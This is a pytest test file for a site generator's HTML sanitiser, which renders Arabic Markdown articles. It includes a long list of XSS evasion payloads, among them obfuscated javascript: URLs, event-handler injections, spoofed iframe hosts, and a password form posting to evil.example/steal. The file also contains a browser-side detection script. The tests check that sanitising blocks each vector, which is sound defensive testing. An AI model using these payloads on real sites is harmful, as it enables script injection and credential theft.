"""The raw HTML policy: what a Markdown body may put on a page when sanitised (the default) and when trusted."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from generator.markup import MarkupError, MarkupPolicy, make_converter, render_markdown
from generator.sanitise import MAX_DEPTH, TRUSTED, nesting_depth, sanitise_html

SANITISED = MarkupPolicy()
TRUSTING = MarkupPolicy(raw_html=TRUSTED)

# Attributes that hold a URL a browser may load or follow.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset",
                  "lowsrc", "dynsrc", "cite", "codebase", "ping"}
# Tags that must never reach a page, whatever their attributes.
FORBIDDEN_TAGS = {"script", "style", "object", "embed", "applet", "form", "input", "button", "select", "textarea",
                  "meta", "base", "link", "svg", "math", "frame", "frameset", "isindex", "noscript", "template",
                  "source", "video", "audio"}
ALLOWED_FRAME = re.compile(r"https://(www\.youtube-nocookie\.com/embed/|www\.youtube\.com/embed/|"
                           r"player\.vimeo\.com/video/)[A-Za-z0-9_-]+(\?[A-Za-z0-9_\-=&;.%]*)?")


class _Dangers(HTMLParser):
    """Everything in a page's HTML that could run script, load a foreign page or style, or reach window.opener,
    read as a browser reads attributes (entities decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        if tag == "iframe" and not ALLOWED_FRAME.fullmatch(values.get("src", "")):
            self.found.append(f"iframe src={values.get('src')!r}")
        for name, value in values.items():
            # As a browser's URL parser: controls and spaces around the URL go, tabs and newlines anywhere.
            compact = re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(0x21))))).lower()
            if name.startswith("on") or name == "srcdoc":
                self.found.append(f"{name}=")
            elif name in URL_ATTRIBUTES and compact.startswith(("javascript:", "vbscript:", "data:")):
                self.found.append(f"{name}={compact[:20]}")
            elif name == "style" and not re.fullmatch(r"text-align:\s*(left|right|center);?", value.strip()):
                self.found.append(f"style={value!r}")
            elif name == "http-equiv":
                self.found.append("http-equiv")
        if tag == "a" and values.get("target") == "_blank" and "noopener" not in values.get("rel", ""):
            self.found.append("target=_blank without noopener")


def dangers(html: str) -> list[str]:
    """What in html could attack a reader (see _Dangers); [] when nothing."""
    parser = _Dangers()
    parser.feed(html)
    parser.close()
    return parser.found


def convert(text: str, policy: MarkupPolicy = SANITISED) -> str:
    return str(render_markdown(make_converter(), text, policy).html)


# OWASP's XSS filter evasion cheat sheet, in Markdown bodies: raw HTML blocks, inline HTML, and Markdown's own
# links and images (Python-Markdown writes their URLs as given).
XSS = [
    "<script>alert(1)</script>",
    "نص <script>alert(1)</script> نص",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    'نص <img src="x" onerror="alert(1)"> نص',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058'
    'alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<p><a href="java\nscript:alert(1)">x</a></p>',  # Markdown turns a tab into spaces, a newline stays
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="#" onclick="alert(1)">x</a>',
    "<p onmouseover=alert(1)>نص</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">x</span>',
    "<style>body { display: none }</style>",
    '<iframe src="https://evil.example/login"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="http://www.youtube.com/embed/abc"></iframe>',
    '<iframe src="https://www.youtube.com@evil.example/embed/abc"></iframe>',
    '<iframe src="https://evil.example\\@www.youtube.com/embed/abc"></iframe>',
    '<iframe src="https://www.youtube.com.evil.example/embed/abc"></iframe>',
    '<iframe src="https://www.youtube.com/embed/../../redirect?q=https://evil.example"></iframe>',
    '<form action="https://evil.example/steal"><input name="password" type="password"><button>OK</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<video><source onerror="alert(1)"></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<div><!--<img src="--><img src=x onerror=alert(1)//"></div>',
    '<a href="https://evil.example/" target="_blank">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "![x](javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
]


@pytest.mark.parametrize("body", XSS)
def test_an_attack_reaches_the_page_when_trusted_and_never_when_sanitised(body):
    # The first half shows that each vector is a real one (and that the checker sees it).
    assert dangers(convert(body, TRUSTING)), "not an attack even when trusted"
    html = convert(body)
    assert dangers(html) == [], html


@pytest.mark.parametrize("body", XSS)
def test_no_attack_survives_being_sanitised_twice_or_inside_other_markup(body):
    # Sanitised output fed back in (a page copied into an article) and a vector nested in allowed markup.
    assert dangers(sanitise_html(convert(body))) == []
    assert dangers(convert(f'<div dir="ltr"><p>{body}</p></div>')) == []
    assert dangers(convert(f"> {body}\n\n- {body}")) == []


# Article HTML that survives exactly as written (in the spelling the sanitiser writes: attributes quoted).
ARTICLE_HTML = [
    '<figure><img src="/images/raqqa.jpg" alt="خريطة الرقة" width="640" height="480" loading="lazy">'
    "<figcaption>خريطة الرقة، ٢٠١٧</figcaption></figure>",
    "<details><summary>المزيد</summary><p>تفاصيل الاتفاق</p></details>",
    '<details open=""><summary>المصادر</summary><ol><li>تقرير</li></ol></details>',
    '<p>قال <span dir="ltr" lang="en">Islamic State</span> إن <bdi>ISIS</bdi> <bdo dir="rtl">abc</bdo></p>',
    '<div class="note" dir="rtl" lang="ar"><p>ملاحظة</p></div>',
    '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="560" height="315" title="فيديو" '
    'allow="accelerometer; encrypted-media; picture-in-picture" allowfullscreen="" loading="lazy" '
    'referrerpolicy="strict-origin-when-cross-origin"></iframe>',
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?start=30&amp;rel=0" title="v"></iframe>',
    '<iframe src="https://player.vimeo.com/video/76979871" width="640" height="360"></iframe>',
    '<table><caption>النتائج</caption><colgroup><col span="2"></colgroup><thead><tr><th scope="col">السنة</th>'
    '<th scope="col" colspan="2">العدد</th></tr></thead><tbody><tr><td rowspan="2">2017</td><td>1</td></tr>'
    "</tbody><tfoot><tr><td>المجموع</td></tr></tfoot></table>",
    '<p><abbr title="تنظيم الدولة">داعش</abbr> H<sub>2</sub>O x<sup>2</sup> <kbd>Ctrl</kbd> <mark>مهم</mark> '
    '<del datetime="2017-09-28">قديم</del> <ins>جديد</ins> <small>هامش</small> <s>خطأ</s> <cite>الكتاب</cite> '
    '<q cite="https://example.org/q">قول</q> <time datetime="2017-09-28">٢٨ سبتمبر</time> <code>x = 1</code> '
    '<em>مائل</em> <strong>عريض</strong> <i>i</i> <b>b</b> <u>u</u> <dfn>تعريف</dfn> <var>n</var> '
    "<samp>out</samp> a<wbr>b <ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby></p>",
    '<blockquote cite="https://example.org/speech"><p>اقتباس</p></blockquote>',
    "<dl><dt>الرقة</dt><dd>مدينة سورية</dd></dl>",
    '<h2 id="خلفية">خلفية</h2><h3 id="section-2">تفاصيل</h3>',
    '<ol start="5" reversed=""><li value="7">سابع</li></ol><ul><li>أ</li></ul>',
    '<p><a href="https://example.org/report" title="التقرير">التقرير</a> <a href="/ar/2017/09/">أيلول</a> '
    '<a href="#fn:1">1</a> <a href="mailto:desk@example.org">بريد</a> <a href="tel:+9611234">هاتف</a> '
    '<a href="https://example.org/" hreflang="en">English</a></p>',
    '<p><a href="https://example.org/" target="_blank" rel="noopener noreferrer">يفتح في نافذة</a></p>',
    "<pre><code>if x &lt; 1:\n    print(x)\n</code></pre><hr><p>سطر<br>سطر</p>",
]


@pytest.mark.parametrize("html", ARTICLE_HTML)
def test_article_html_survives_unchanged(html):
    assert sanitise_html(html) == html
    assert html in convert(f"{html}\n") or html in convert(f"<div>\n{html}\n</div>\n")


def test_a_link_opening_a_new_tab_gets_noopener_and_other_links_do_not():
    html = convert('<a href="https://example.org/" target="_blank">x</a> [y](https://example.org/) '
                   '<a href="/a" target="_self" title="a target=&quot;_blank&quot;">z</a>')
    assert '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">x</a>' in html
    assert '<a href="https://example.org/">y</a>' in html
    assert '<a href="/a" title="a target=&quot;_blank&quot;">z</a>' in html  # _self dropped, no rel


def test_a_frame_from_elsewhere_is_removed_whole_and_its_neighbours_stay():
    html = convert('<p>قبل</p>\n\n<iframe src="https://evil.example/" width="9"></iframe>\n\n<p>بعد</p>')
    assert "iframe" not in html
    assert "<p>قبل</p>" in html and "<p>بعد</p>" in html


def test_script_and_style_go_with_their_content_other_tags_leave_their_text():
    html = convert("<p>أ<script>var secret = 1;</script>ب<style>p{}</style>ج<label>اسم</label><font color=red>د</font>"
                   "</p>\n\n<form><p>هـ</p><input value=secret></form>")
    assert html == "<p>أبجاسمد</p>\n\n<p>هـ</p>"


class _Tree(HTMLParser):
    """A document tree as events, for comparing what HTML means rather than how it is spelled."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.events: list[tuple] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # The sanitiser rewrites "text-align: left;" as "text-align:left" and a bare attribute as name="".
        self.events.append(("start", tag, sorted((name, re.sub(r"\s|;$", "", value or "")) for name, value in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.events.append(("end", tag))

    def handle_data(self, data: str) -> None:
        if self.events and self.events[-1][0] == "data":
            self.events[-1] = ("data", self.events[-1][1] + data)
        else:
            self.events.append(("data", data))


def tree(html: str) -> list[tuple]:
    parser = _Tree()
    parser.feed(html)
    parser.close()
    return parser.events


MARKDOWN = """# عنوان رئيسي

## مقدمة البحث

نص *مائل* و**عريض** و`code` و[رابط](https://example.org "عنوان") و![صورة](/img/a.png "t")
سطر مع فاصل  
بعده. <https://example.org/x?a=1&b=2> و <me@example.org> & < > "quotes" ‏علامة‎ Islamic State (ISIS) 2017.

> اقتباس
> > متداخل

3. ثالث
4. رابع

- أ
    - ب
        - ج

| يسار | وسط | يمين | بلا |
|:-----|:---:|-----:|-----|
| 1 | 2 | 3 | 4 |

    كتلة شيفرة <script>

---

نص[^1] وآخر[^note] وثالث[^3].

[^1]: حاشية أولى
[^note]: حاشية *ثانية* مع [رابط](https://example.org)
[^3]: حاشية ثالثة

### تفاصيل & أكثر

## مقدمة البحث

#### The English part: 50% of C++
"""


@pytest.mark.parametrize("backlink, digits", [("Jump back to footnote %d in the text", "latn"),
                                              ("العودة إلى الحاشية %d", "arab")])
def test_python_markdown_output_means_the_same_after_sanitising(backlink, digits):
    trusted = render_markdown(make_converter(backlink, digits), MARKDOWN, TRUSTING)
    sanitised = render_markdown(make_converter(backlink, digits), MARKDOWN, SANITISED)
    assert tree(str(sanitised.html)) == tree(str(trusted.html))
    assert sanitised.toc and tree(sanitised.toc) == tree(trusted.toc)
    # What the theme and the footnotes rely on is there, ids in Arabic included.
    for needed in ('id="مقدمة-البحث">', 'id="مقدمة-البحث_1">', 'class="footnote"', 'class="footnote-ref"',
                   'class="footnote-backref"', 'id="fn:note"', 'href="#fnref:note"', 'style="text-align:center"'):
        assert needed in str(sanitised.html)
    assert 'class="toc"' in sanitised.toc and 'href="#مقدمة-البحث"' in sanitised.toc


def test_trusted_html_passes_through_as_written():
    body = '<div onclick="go()"><script>track()</script><iframe src="https://maps.example/embed"></iframe></div>\n'
    assert body.strip() in convert(body, TRUSTING)
    assert '<a href="javascript:go()">x</a>' in convert("[x](javascript:go())", TRUSTING)


def test_html_nested_deeper_than_the_limit_is_an_error_only_when_sanitising():
    fine = "<div>" * MAX_DEPTH + "x" + "</div>" * MAX_DEPTH
    assert convert(fine).count("<div>") == MAX_DEPTH
    deep = "<div>" * (MAX_DEPTH + 1) + "x"
    with pytest.raises(MarkupError) as error:
        convert(deep)
    assert str(error.value) == ("the HTML is nested more than 512 elements deep (raw HTML or quotes in quotes); "
                                "flatten it or close its tags")
    assert convert(deep, TRUSTING).count("<div>") == MAX_DEPTH + 1


@pytest.mark.parametrize("html, depth", [
    ("", 0), ("<p>a</p><p>b</p>", 1), ("<div><p>a<br><img src=x></p></div>", 2),
    ("<ul><li>a<li>b<li>c</ul>", 2),          # an <li> closes the one before it
    ("<ul><li>" * 50, 100),                   # but a list inside an item nests
    ("<div></span>" * 30, 30),                # a stray end tag closes nothing
    ("<div><p><b>x</div>" * 40, 3),           # an end tag closes what was opened inside
    ("<b title=1><b title=2>" * 20 + "<p>x", 41),
    ("<DIV><Div><div>", 3),
])
def test_nesting_depth_counts_what_a_parser_would_keep_open(html, depth):
    assert nesting_depth(html) == depth


def test_sanitising_deep_but_allowed_html_stays_fast():
    import time

    # Each of these took seconds to minutes in the sanitiser at 20,000 to 200,000 levels; at the limit, little.
    for html in ("<ul><li>" * 256 + "x", "<div>" * 511 + "<span>x</span>" * 20000, "<blockquote>" * 512):
        started = time.perf_counter()
        sanitise_html(html)
        assert time.perf_counter() - started < 2


def set_raw_html(site, value: str | None) -> None:
    """Write site.toml with raw_html = value at the top (None: the shipped file, without the key)."""
    from tests.conftest import REPO

    text = (REPO / "site.toml").read_text(encoding="utf-8")
    (site.root / "site.toml").write_text(text if value is None else f"raw_html = {value}\n{text}", encoding="utf-8")


def test_the_cache_never_serves_a_body_converted_under_the_other_setting(make_site):
    site = make_site()
    site.article("ar", "embed", body='نص <span onclick="track()">مهم</span> و[رابط](javascript:go())')
    page = "ar/2017/09/embed/index.html"
    steps = [(None, False), ('"trusted"', True), ('"sanitise"', False), ('"trusted"', True)]
    for value, trusted in steps:
        set_raw_html(site, value)
        result = site.build()
        assert result.code == 0, result.err
        html = site.read(page)
        assert ('onclick="track()"' in html) is trusted
        assert ('href="javascript:go()"' in html) is trusted
        assert '<span>مهم</span>' in html or trusted


def test_raw_html_must_be_one_of_the_two_policies(make_site):
    site = make_site()
    set_raw_html(site, '"sanitize"')
    result = site.build()
    assert result.code == 1
    assert 'site.toml:1: raw_html must be "sanitise" or "trusted", not "sanitize"' in result.err.splitlines()


# What a browser makes of a page: scripts run (dialogs), elements with handlers, and URLs parsed by its own
# URL parser (a scheme hidden by entities, case or control characters shows here as what it is).
BROWSER_FINDINGS = """() => {
  const found = [];
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      if (attribute.name.startsWith('on') || attribute.name === 'srcdoc') found.push(attribute.name);
      if (['href', 'src', 'action', 'formaction', 'data', 'poster', 'cite'].includes(attribute.name)) {
        const scheme = new URL(attribute.value, 'https://site.example/').protocol;
        if (!['https:', 'http:', 'mailto:', 'tel:'].includes(scheme)) found.push(attribute.name + '=' + scheme);
      }
    }
  }
  for (const element of document.querySelectorAll('script, style, form, input, button, meta, base, link, object, '
                                                  + 'embed, svg, math, iframe:not([src])')) {
    found.push(element.tagName);
  }
  return found;
}"""


def browser_findings(browser, html: str) -> tuple[list[str], list[str]]:
    """What Chromium finds in a page holding html: the dialogs scripts opened, and BROWSER_FINDINGS."""
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    # Only the page itself: the closed network would leave frames and images pending.
    page.route("**/*", lambda route: route.abort())
    try:
        page.set_content(f"<!DOCTYPE html><html><body>{html}</body></html>", wait_until="domcontentloaded")
        page.wait_for_timeout(300)
        return dialogs, page.evaluate(BROWSER_FINDINGS)
    finally:
        page.close()


def test_in_a_browser_no_sanitised_attack_runs_and_the_trusted_ones_do(browser):
    sanitised = "\n".join(convert(body) for body in XSS)
    assert browser_findings(browser, sanitised) == ([], [])
    # (Without the refresh, which would take the trusted page away before it is looked at.)
    trusted = "\n".join(convert(body, TRUSTING) for body in XSS if "refresh" not in body)
    dialogs, findings = browser_findings(browser, trusted)
    assert dialogs and "href=javascript:" in findings and "onerror" in findings and "SCRIPT" in findings
